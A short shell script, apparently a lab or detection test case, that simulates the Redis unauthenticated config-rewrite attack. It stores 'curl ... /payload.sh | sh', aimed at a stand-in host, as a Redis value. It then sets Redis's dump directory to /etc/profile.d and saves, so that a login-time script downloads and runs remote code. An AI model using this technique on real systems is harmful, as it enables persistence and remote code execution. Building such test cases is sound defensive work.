#!/bin/sh
. /opt/case/case.sh

redis-server --port 6379 --bind 0.0.0.0 --protected-mode no --enable-protected-configs yes --daemonize yes --logfile /var/log/r.log >/dev/null
sleep 1
c="redis-cli -h 10.77.0.2"
$c set x "$(printf '\n\ncurl -fsSL http://203.0.113.10/payload.sh | sh\n\n')" >/dev/null
$c config set dir /etc/profile.d >/dev/null
$c config set dbfilename zz.sh >/dev/null
$c save | grep -q OK
grep -aq payload.sh /etc/profile.d/zz.sh
redis-cli shutdown nosave || true
took_place
